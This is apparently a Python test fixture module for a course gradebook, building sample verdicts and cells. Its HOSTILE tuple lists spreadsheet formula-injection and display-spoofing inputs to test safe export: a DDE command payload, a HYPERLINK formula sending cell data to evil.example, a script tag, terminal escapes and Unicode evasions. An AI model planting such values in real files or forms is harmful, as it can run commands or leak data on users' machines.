"""A gradebook in a few lines, for the tests of what becomes of it."""

from collections.abc import Sequence

from lossdrill.classroom.model import Cell, Gradebook, Graded, Run, State, Student, Unreadable
from lossdrill.model import Check, Counterexample, Curve, Diagnosis, Reading, Verdict

EXERCISES = ("huber-value", "huber-gradient")

HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\u22121",
    "harmless;=1+1",
    "harmless,=1+1",
    "harmless|=1+1",
    'harm"less;"=1+1',
    "harm\nless\r\n=1+1",
    '"=1+1',
    "'=1+1",
    "<script>alert(1)</script>",
    "\x1b[31mred",
    "\u2067right to left\u2069",
)
"""Names and ids as nobody has them."""

WRONG = Verdict(
    exercise="huber-gradient",
    status="wrong",
    score=0.5,
    variant=7,
    reason="value",
    checks=(
        Check(id="value", title="matches the reference", passed=False, detail="4 of 12 points"),
    ),
    diagnoses=(Diagnosis(id="missing-mean", kind="mistake", message="Exactly n times too large."),),
    counterexample=Counterexample(inputs={"y": [0.0]}, yours=3.0, expected="SECRET"),
    notes=("a note",),
    curve=Curve(title="t", along="residual", x=(0.0,), yours=(1.0,), expected=(2.0,)),
    read_as=(Reading(name="answer", text="r", mathml="<math/>"),),
    printed="the case is 42",
    isolation=("rlimits", "seccomp"),
    pack="0123456789abcdef",
)
NOT_RUN = Verdict(
    exercise="huber-gradient",
    status="not_run",
    score=0.0,
    variant=7,
    reason="timeout",
    diagnoses=(Diagnosis(id="timeout", kind="run", message="Stopped after 2 s."),),
)
PASS = Verdict(exercise="huber-gradient", status="pass", score=1.0, variant=7)
UNSCORED = Verdict(exercise="huber-gradient", status="unscored", score=0.0, variant=7)


def cell(
    student: str,
    exercise: str,
    verdicts: Sequence[Verdict] = (),
    *,
    score: float | None = None,
    counted: int | None = None,
    late: bool = False,
) -> Cell:
    """A cell of which the last verdict counts; its score unless another one is given."""
    attempts = tuple(
        Graded(
            student=student,
            exercise=exercise,
            file=f"{student}/{exercise}.py",
            attempt=number,
            time=1.8e9 + number,
            key=f"{number:064}",
            verdict=verdict,
        )
        for number, verdict in enumerate(verdicts, start=1)
    )
    if counted is None and attempts:
        counted = len(attempts) - 1
    state: State = "missing"
    if counted is not None:
        status = attempts[counted].verdict.status
        state = "graded" if status in {"pass", "wrong"} else status  # type: ignore[assignment]
        if state == "graded" and score is None:
            score = attempts[counted].verdict.score
    return Cell(
        student=student,
        exercise=exercise,
        state=state,
        score=score,
        attempts=attempts,
        counted=counted,
        late=late,
    )


def book(
    students: Sequence[Student],
    cells: Sequence[Cell] = (),
    *,
    exercises: Sequence[str] = EXERCISES,
    weights: dict[str, float] | None = None,
    unreadable: tuple[Unreadable, ...] = (),
) -> Gradebook:
    """What is not among the cells is missing."""
    complete = {
        (student.id, exercise): cell(student.id, exercise)
        for student in students
        for exercise in exercises
    }
    complete |= {(each.student, each.exercise): each for each in cells}
    run = Run(
        pack="0123456789abcdef",
        version="1",
        salt="salt",
        layers=("rlimits",),
        exercises=tuple(exercises),
        students=tuple(students),
    )
    return Gradebook(
        run=run,
        cells=complete,
        weights=dict.fromkeys(exercises, 1.0) | (weights or {}),
        unreadable=unreadable,
    )
